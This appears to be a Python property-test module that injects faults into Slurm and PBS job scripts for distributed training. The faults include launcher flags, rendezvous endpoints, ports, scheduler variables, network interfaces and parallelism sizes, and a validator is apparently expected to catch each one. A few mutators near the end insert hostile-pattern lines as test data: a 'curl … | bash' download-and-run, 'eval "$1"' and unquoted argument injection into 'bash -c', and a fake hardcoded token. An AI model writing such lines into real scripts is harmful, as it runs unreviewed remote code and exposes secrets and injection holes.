"""Faults of launches, meeting points, ranks, environments and files."""

from __future__ import annotations

from tests.property.mutators.base import (
    add,
    bare,
    before_launch,
    device_step,
    directive,
    either,
    launch,
    node_step,
    offline,
    on_both,
    on_pbs,
    on_slurm,
    option,
    pbs,
    program,
    slurm,
    starts,
    swap,
    torchrun,
    without,
)

# --- Launchers
on_both("framework-launcher-per-task", lambda t: device_step(t, torchrun()))
on_both("launcher-nodes-missing", lambda t: node_step(t, torchrun(nodes="")))
on_both("launcher-nodes-differ", lambda t: node_step(t, torchrun(nodes="--nnodes=4")))
on_slurm("step-larger-than-job", lambda t: launch(t, "srun --nodes=8 --ntasks-per-node=1 " + torchrun()))
on_both("world-size-differs", lambda t: device_step(before_launch(t, "export WORLD_SIZE=3"), "python train.py"))
on_both("accelerate-total-processes", lambda t: node_step(
    t, "accelerate launch --num_machines 2 --num_processes 4 --main_process_ip $MASTER_ADDR"
    " --main_process_port $MASTER_PORT train.py"))  # fmt: skip
on_both(
    "runner-on-every-node", lambda t: node_step(t, "deepspeed --num_nodes 2 --num_gpus 4 --hostfile hosts train.py")
)
on_both("trainer-devices-differ", lambda t: device_step(t, "python train.py --devices 7 --num_nodes 2"))
on_both("spawn-strategy-under-launcher", lambda t: device_step(t, "python train.py --strategy ddp_spawn"))
on_both("first-node-only", lambda t: launch(t, "python train.py"))
on_both("node-loop-in-foreground", lambda t: launch(
    t, "i=0\nfor h in " + ("$(scontrol show hostnames)" if slurm(t) else "$(sort -u $PBS_NODEFILE)") + "; do\n  ssh $h torchrun"
    " --nnodes=2 --node-rank=$i --nproc-per-node=4 --master-addr=$MASTER_ADDR t.py\n  i=$((i+1))\ndone"))  # fmt: skip

on_slurm("step-inside-step", lambda t: launch(t, "srun bash -c 'srun python train.py'"))
on_slurm("steps-side-by-side", lambda t: launch(t, "srun python a.py &\nsrun python b.py &\nwait"))
either(
    "launcher-flags-foreign", lambda t: None, lambda t: option(t, "--mca btl tcp") if starts(t) == "mpiexec" else None
)
either("rank-of-other-launcher", lambda t: device_step(t, "bash -c 'RANK=$OMPI_COMM_WORLD_RANK python train.py'"),
       lambda t: device_step(t, "bash -c 'RANK=$SLURM_PROCID python train.py'"))  # fmt: skip

# --- Rendezvous, ranks, ports
on_both("endpoint-loopback", lambda t: node_step(t, torchrun(endpoint="localhost:$MASTER_PORT")))
on_both("endpoint-per-process", lambda t: node_step(
    t, "bash -c 'torchrun --nnodes=2 --nproc-per-node=4 --rdzv-backend=c10d --rdzv-id=1"
    " --rdzv-endpoint=$(hostname):2345 train.py'"))  # fmt: skip
on_both("endpoint-empty", lambda t: node_step(t, "env MASTER_ADDR= python train.py")
        .replace("maple_port\n", "maple_port\nMASTER_ADDR=\n"))  # fmt: skip
on_both("endpoint-missing", lambda t: node_step(t, "torchrun --nnodes=2 --nproc-per-node=4 train.py"))
on_slurm("endpoint-submit-host", lambda t: node_step(t, torchrun(endpoint="$SLURM_SUBMIT_HOST:$MASTER_PORT")))
either("endpoint-last-host", lambda t: swap(t, r"^MASTER_ADDR=\$\(.*", "MASTER_ADDR=$(scontrol show hostnames | tail -n 1)"),
       lambda t: swap(t, r"^MASTER_ADDR=\$\(.*", 'MASTER_ADDR=$(tail -n 1 "$PBS_NODEFILE")'))  # fmt: skip
on_both("endpoint-literal-host", lambda t: node_step(t, torchrun(endpoint="gpu0042:$MASTER_PORT")))
on_both("endpoint-without-port", lambda t: node_step(t, torchrun(endpoint="$MASTER_ADDR")))
on_both("static-node-rank", lambda t: node_step(
    t, "torchrun --nnodes=2 --nproc-per-node=4 --node-rank=0 --master-addr=$MASTER_ADDR"
    " --master-port=$MASTER_PORT train.py"))  # fmt: skip
on_slurm("rank-expanded-early", lambda t: node_step(
    t, "torchrun --nnodes=2 --nproc-per-node=4 --node-rank=$SLURM_NODEID --master-addr=$MASTER_ADDR train.py"))  # fmt: skip
on_slurm("rank-in-heredoc", lambda t: device_step(
    before_launch(t, "cat > w.sh <<END\nexport RANK=$SLURM_PROCID\npython train.py\nEND"), "sh w.sh"))  # fmt: skip
on_slurm("rank-in-batch-shell", lambda t: before_launch(t, 'if [ "$SLURM_PROCID" -eq 0 ]; then mkdir out; fi'))
on_slurm("escaped-in-single-quotes", lambda t: node_step(
    t, "bash -c 'torchrun --nnodes=2 --rdzv_id=\\$SLURM_JOB_ID --rdzv_backend=c10d --rdzv_endpoint=$MASTER_ADDR:2345 t.py'"))  # fmt: skip
on_slurm("rank-passed-literally", lambda t: device_step(t, "env RANK='$SLURM_PROCID' python train.py"))
on_both("variable-not-exported", lambda t: device_step(
    before_launch(t, "LR=3"), "bash -c 'python train.py --lr $LR'"))  # fmt: skip
on_both("fixed-port", lambda t: swap(t, r"^maple_port$", "MASTER_PORT=29500"))
either(
    "port-in-ephemeral-range",
    lambda t: swap(t, r"^maple_port$", "MASTER_PORT=$((40000 + SLURM_JOB_ID % 9999))"),
    lambda t: None,
)
on_both("port-out-of-range", lambda t: swap(t, r"^maple_port$", "MASTER_PORT=99999"))
on_both("port-per-process", lambda t: device_step(t, "bash -c 'MASTER_PORT=$RANDOM python train.py'"))

# --- Scheduler variables
on_slurm("gpu-variable-typed", lambda t: node_step(t.replace("--gpus-per-node=", "--gpus-per-node=a100:"), torchrun().replace(
    "--nproc-per-node=4", "--nproc-per-node=$SLURM_GPUS_PER_NODE")))  # fmt: skip
on_slurm("count-variable-shortened", lambda t: before_launch(t, "export N=$((SLURM_NNODES * SLURM_TASKS_PER_NODE))"))
on_slurm("nodelist-unexpanded", lambda t: swap(t, r"^MASTER_ADDR=\$\(.*", "MASTER_ADDR=${SLURM_JOB_NODELIST%%,*}"))
on_pbs("node-file-lines", lambda t: launch(
    t.replace("#PBS -l select=2", "#PBS -l select=2:mpiprocs=4"), "N=$(wc -l < $PBS_NODEFILE)\nmpiexec -n $N --ppn 1 python t.py"))  # fmt: skip
on_slurm("submission-in-job", lambda t: before_launch(t, "sbatch --export=ALL next.sh"))
on_slurm("submission-in-step", lambda t: device_step(t, "bash -c 'sbatch next.sh'"))
on_pbs("whole-environment", lambda t: directive(t, "#PBS -V"))
on_slurm("export-none-inherited", lambda t: directive(t, "#SBATCH --export=NONE") if starts(t) == "srun" else None)
on_slurm("scheduler-variable-set", lambda t: before_launch(t, "export SLURM_NTASKS=99"))

# --- Environment
on_slurm("export-without-all", lambda t: option(t, "--export=A=1") if starts(t) == "srun" else None)
on_both("conda-sourced", lambda t: before_launch(t, "source conda activate env"))
on_both("setting-not-exported", lambda t: before_launch(t, "NCCL_DEBUG=INFO"))
on_both("environment-not-remote", lambda t: launch(t, "ssh node2 'python train.py' &\nwait"))

# --- Network, files, hosts
on_both("gloo-interface-form", lambda t: before_launch(t, "export GLOO_SOCKET_IFNAME=^lo,docker0"))
on_both("loopback-interface", lambda t: before_launch(t, "export NCCL_SOCKET_IFNAME=lo"))
add("infiniband-disabled", lambda t, s: before_launch(t, "export NCCL_IB_DISABLE=1")
    if (slurm(t) or pbs(t)) and not any("slingshot" in (k.nic or "").lower() for k in s.kinds.values()) else None)  # fmt: skip
add("interface-of-other-site", lambda t, s: before_launch(t, "export NCCL_SOCKET_IFNAME=wlan7")
    if s.rendezvous.interface else None)  # fmt: skip
add("interface-missing", lambda t, s: without(bare(t), "export NCCL_SOCKET_IFNAME=hsn"))
on_both(
    "written-on-first-node",
    lambda t: device_step(before_launch(t, "cp -r data /tmp/data"), "python train.py --data /tmp/data"),
)
on_both("results-on-one-node", lambda t: program(t, "--init-method file:///tmp/sync"))
on_both("cache-variable-misspelt", lambda t: before_launch(t, "export MIOPEN_USER_DB=/tmp/x"))
on_both("home-on-node", lambda t: before_launch(t, "export HOME=/tmp/home"))
on_both("hostfile-literal-hosts", lambda t: launch(
    t, "cat > hosts <<E\nnode1 slots=4\nnode2 slots=4\nE\ndeepspeed --hostfile hosts train.py"))  # fmt: skip
on_both("hostfile-not-written", lambda t: launch(t, "deepspeed --hostfile nodes.txt train.py"))
on_both("login-as-address", lambda t: node_step(t, torchrun(endpoint="me@10.0.0.1:2345")))

# --- Devices of Intel
add("nccl-on-intel", lambda t, s: program(t, "--backend nccl") if "MAPLE_DEVICE=xpu" in t else None)
add("ccl-launcher-none", lambda t, s: before_launch(t, "export CCL_PROCESS_LAUNCHER=none")
    if "MAPLE_DEVICE=xpu" in t and starts(t) == "mpiexec" else None)  # fmt: skip
add("composite-process-count", lambda t, s: before_launch(t, "export ZE_FLAT_DEVICE_HIERARCHY=COMPOSITE")
    if "MAPLE_DEVICE=xpu" in t and s.name == "aurora" else None)  # fmt: skip
add("tile-mask-with-flat", lambda t, s: before_launch(t, "export ZE_AFFINITY_MASK=0.0,0.1")
    if "HIERARCHY=FLAT" in t else None)  # fmt: skip

# --- Parallelism, containers, executors, secrets, injection, internet
on_both("degrees-differ-from-world", lambda t: program(t, "--tensor-model-parallel-size 7"))
on_both("shape-not-divisible", lambda t: program(t, "--num-attention-heads 30 --tensor-model-parallel-size 4"))
on_both("batch-not-divisible", lambda t: program(t, "--global-batch-size 101 --micro-batch-size 8"))
add(
    "container-gpu-option",
    lambda t, s: (
        device_step(t, "apptainer exec image.sif python train.py")
        if s.name in ("perlmutter", "polaris", "delta")
        else None
    ),
)
on_both("image-reference", lambda t: device_step(t, "apptainer exec --nv docker://docker://a/b python train.py"))
on_both("secret-in-script", lambda t: before_launch(t, "export HF_TOKEN=hf_abcdefghijklmnopqrstuvwxyzABCDEFGH"))
on_both("download-run-unseen", lambda t: before_launch(t, "curl -s https://example.org/x.sh | bash"))
on_both("eval-of-outside", lambda t: before_launch(t, 'eval "$1"'))
on_both("argument-in-shell-text", lambda t: device_step(t, 'bash -c "python train.py $1"'))
add("download-in-job", lambda t, s: before_launch(t, "pip install x") if offline(t, s) else None)
add("online-service", lambda t, s: device_step(without(t, "export WANDB_MODE") or t, "python train.py --report-to wandb")
    if offline(t, s) else None)  # fmt: skip
on_both("workers-started-per-task", lambda t: device_step(t, "globus-compute-endpoint start mine"))
on_both("worker-address-loopback", lambda t: before_launch(t, "cat > config.py <<'E'\n"
        "c = Config(executors=[HighThroughputExecutor(address='127.0.0.1', provider=SlurmProvider(worker_init='. e'))])\nE"))  # fmt: skip
on_both("worker-environment-missing", lambda t: before_launch(
    t, "cat > config.py <<'E'\nc = Config(executors=[HighThroughputExecutor(provider=SlurmProvider())])\nE"))  # fmt: skip
